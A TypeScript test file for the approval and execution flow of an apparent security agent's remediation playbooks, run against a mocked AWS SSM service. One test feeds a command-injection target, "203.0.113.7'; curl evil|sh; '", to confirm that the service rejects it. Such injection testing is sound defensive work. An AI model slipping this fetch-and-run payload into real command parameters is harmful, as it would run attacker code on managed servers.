import { CreateDocumentCommand, SSMClient } from '@aws-sdk/client-ssm';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type LocalAws, startLocalAws } from '../../../test/localaws/local-aws.ts';
import { clientConfig } from '../../../test/localaws/testing.ts';
import { dbBackends } from '../../../test/support/pg.ts';
import { type Harness, harness, T0 } from '../testing/harness.ts';
import { actionsPlugin, pollSsmOutcomes } from './plugin.ts';
import { PLAYBOOK_DOCUMENT_NAME, playbookDocument } from './ssm-document.ts';
import { createSsmRunner } from './ssm-runner.ts';

const backends = await dbBackends();
const INSTANCE = 'i-0123456789abcdef0';
let aws: LocalAws;
let ssm: SSMClient;

beforeAll(async () => {
  aws = await startLocalAws({ services: ['ssm'] });
  ssm = new SSMClient({ ...clientConfig(aws), maxAttempts: 1 });
  await ssm.send(
    new CreateDocumentCommand({
      Name: PLAYBOOK_DOCUMENT_NAME,
      DocumentType: 'Command',
      DocumentFormat: 'JSON',
      Content: playbookDocument(),
    }),
  );
  aws.state.ssm.registerInstance({ instanceId: INSTANCE, tags: { App: 'vigil' } });
});
afterAll(() => aws.close());

function record(id: string, over: Record<string, unknown> = {}) {
  return {
    id,
    playbook: 'block-ip',
    mode: 'recommend',
    decision: 'recommended',
    result: 'none',
    dryRun: false,
    why: 'ssh_brute_force from 203.0.113.7 scored 0.97 >= 0.80',
    anomalyId: `an-${id}`,
    target: '203.0.113.7',
    startedAt: T0,
    finishedAt: T0 + 5,
    ...over,
  };
}

describe.each(backends)('actions on $name', (backend) => {
  let h: Harness;
  beforeEach(async () => {
    h = await harness(backend, {}, { plugins: [actionsPlugin({}, { ssm, startJobs: false })] });
  });
  afterEach(() => h.close());

  async function send(credential: string, actions: object[]) {
    const res = await h.call({ method: 'POST', url: '/v1/agents/actions', token: credential, payload: { actions } });
    expect(res.statusCode).toBe(200);
  }
  async function queue(status = 'pending') {
    const res = await h.call({
      method: 'GET',
      url: `/v1/actions/recommendations?status=${status}`,
      token: await h.token('viewer'),
    });
    return res.json().items as { id: string; actionId: string; status: string }[];
  }
  const decide = async (id: string, verb: 'approve' | 'reject', payload: object, token?: string) =>
    h.call({ method: 'POST', url: `/v1/actions/${id}/${verb}`, token: token ?? (await h.token('operator')), payload });

  it('approves a recommendation for its agent only, until the agent reports running it', async () => {
    const a = await h.enroll(INSTANCE, 'web-1');
    const b = await h.enroll('i-0fedcba987654321f', 'web-2');
    await send(a.credential, [
      record('rec-1'),
      record('rec-2', { playbook: 'kill-process', target: '4242:1740830400000' }),
    ]);
    const items = await queue();
    expect(items.map((i) => i.actionId).sort()).toEqual(['rec-1', 'rec-2']);
    const rec1 = items.find((i) => i.actionId === 'rec-1')!;
    const rec2 = items.find((i) => i.actionId === 'rec-2')!;

    expect((await decide(rec1.id, 'approve', { reason: 'ok' }, await h.token('viewer'))).json().error.code).toBe(
      'forbidden',
    );
    expect((await decide(rec1.id, 'approve', { reason: 'ok' }, a.credential)).json().error.code).toBe(
      'wrong_credential_kind',
    );
    const ok = await decide(rec1.id, 'approve', { reason: 'confirmed brute force' });
    expect(ok.statusCode).toBe(201);
    expect(ok.json()).toMatchObject({ decision: 'approved', via: 'agent', expiresAt: h.now() + 900_000 });
    expect((await decide(rec1.id, 'reject', { reason: 'late' })).json().error.code).toBe('already_decided');
    expect((await decide(rec2.id, 'reject', { reason: 'pid is the database' })).statusCode).toBe(201);
    expect((await decide('999999', 'approve', { reason: 'x' })).statusCode).toBe(404);

    const pending = async (cred: string) =>
      (await h.call({ method: 'GET', url: '/v1/agents/actions/pending', token: cred })).json();
    const mine = await pending(a.credential);
    expect(mine).toMatchObject({
      nextPollSeconds: 15,
      items: [{ recommendationId: 'rec-1', playbook: 'block-ip', target: '203.0.113.7', approvedBy: 'test-operator' }],
    });
    expect((await pending(b.credential)).items).toEqual([]);

    await send(a.credential, [
      record('run-1', {
        mode: 'recommend',
        decision: 'executed',
        result: 'success',
        recommendationId: 'rec-1',
        approvedBy: 'test-operator',
      }),
    ]);
    expect((await pending(a.credential)).items).toEqual([]);
    const audit = await h.t.db.query<{ action: string; result: string; target: string }>(
      "SELECT action, result, target FROM audit_log WHERE action LIKE 'action.%' ORDER BY seq",
    );
    expect(audit.rows.map((r) => `${r.action}:${r.result}`)).toEqual([
      'action.approve:denied',
      'action.approve:denied',
      'action.approve:ok',
      'action.reject:error',
      'action.reject:ok',
      'action.approve:error',
    ]);
    const stats = (await h.call({ method: 'GET', url: '/v1/actions/stats', token: await h.token('viewer') })).json();
    expect(stats.playbooks['block-ip'].approved).toEqual({ success: 1, failure: 0, rate: 1 });
  });

  it('expires an approval the agent never picked up', async () => {
    const a = await h.enroll(INSTANCE, 'web-1');
    await send(a.credential, [record('rec-x')]);
    const [item] = await queue();
    await decide(item.id, 'approve', { reason: 'ok', ttlSeconds: 60 });
    h.advance(61_000);
    const res = await h.call({ method: 'GET', url: '/v1/agents/actions/pending', token: a.credential });
    expect(res.json().items).toEqual([]);
  });

  it('runs an approved action through SSM with typed parameters and records the outcome', async () => {
    const a = await h.enroll(INSTANCE, 'web-1');
    await send(a.credential, [
      record('rec-ip'),
      record('rec-kill', { playbook: 'kill-process', target: '4242:1740830400000' }),
      record('rec-evil', { target: "203.0.113.7'; curl evil|sh; '" }),
    ]);
    const byAction = new Map((await queue()).map((i) => [i.actionId, i.id]));
    const before = aws.state.ssm.sentCommands().length;

    const evil = await decide(byAction.get('rec-evil')!, 'approve', { reason: 'ok', via: 'ssm' });
    expect(evil.statusCode).toBe(400);
    expect(evil.json().error).toMatchObject({ code: 'invalid_target', field: 'target' });
    expect(aws.state.ssm.sentCommands().length).toBe(before);

    aws.state.ssm.setInvocationResult((ctx) =>
      ctx.parameters.playbook[0] === 'block-ip'
        ? { status: 'Success', output: 'blocked', responseCode: 0 }
        : { status: 'Failed', error: 'process gone', responseCode: 3 },
    );
    const ip = await decide(byAction.get('rec-ip')!, 'approve', { reason: 'block it', via: 'ssm' });
    expect(ip.statusCode).toBe(201);
    const kill = await decide(byAction.get('rec-kill')!, 'approve', { reason: 'miner', via: 'ssm' });
    expect(kill.statusCode).toBe(201);
    const sent = aws.state.ssm.sentCommands().slice(before);
    expect(sent.map((c) => c.documentName)).toEqual([PLAYBOOK_DOCUMENT_NAME, PLAYBOOK_DOCUMENT_NAME]);
    expect(sent[0].instanceIds).toEqual([INSTANCE]);
    expect(sent[0].input.Parameters).toEqual({
      playbook: ['block-ip'],
      approvalId: [ip.json().approvalId],
      ip: ['203.0.113.7'],
    });
    expect(sent[1].input.Parameters).toMatchObject({ pid: ['4242'], startTicks: ['1740830400000'] });

    expect(await pollSsmOutcomes(h.app.vigil, createSsmRunner(ssm, PLAYBOOK_DOCUMENT_NAME))).toBe(2);
    const { rows } = await h.t.db.query<{ outcome: string; ssm_status: string }>(
      'SELECT outcome, ssm_status FROM action_approvals ORDER BY decided_at, id',
    );
    expect(rows.map((r) => r.outcome).sort()).toEqual(['failure', 'success']);
    const stats = (await h.call({ method: 'GET', url: '/v1/actions/stats', token: await h.token('viewer') })).json();
    expect(stats.playbooks['block-ip'].approved).toEqual({ success: 1, failure: 0, rate: 1 });
    expect(stats.playbooks['kill-process'].approved).toEqual({ success: 0, failure: 1, rate: 0 });
    aws.state.ssm.setInvocationResult(undefined);
  });

  it('reports the success rate of autonomous actions per playbook, without dry runs', async () => {
    const a = await h.enroll(INSTANCE, 'web-1');
    const auto = (id: string, result: string, over: object = {}) =>
      record(id, { mode: 'auto', decision: 'executed', result, ...over });
    await send(a.credential, [
      auto('x1', 'success'),
      auto('x2', 'success'),
      auto('x3', 'failure'),
      auto('x4', 'success', { dryRun: true }),
      auto('x5', 'failure', { playbook: 'clean-disk', target: '/var/log' }),
      auto('x6', 'none', { decision: 'refused' }),
    ]);
    const stats = (await h.call({ method: 'GET', url: '/v1/actions/stats', token: await h.token('viewer') })).json();
    expect(stats.playbooks).toEqual({
      'block-ip': { auto: { success: 2, failure: 1, rate: 2 / 3 }, approved: { success: 0, failure: 0, rate: null } },
      'clean-disk': { auto: { success: 0, failure: 1, rate: 0 }, approved: { success: 0, failure: 0, rate: null } },
    });
  });
});
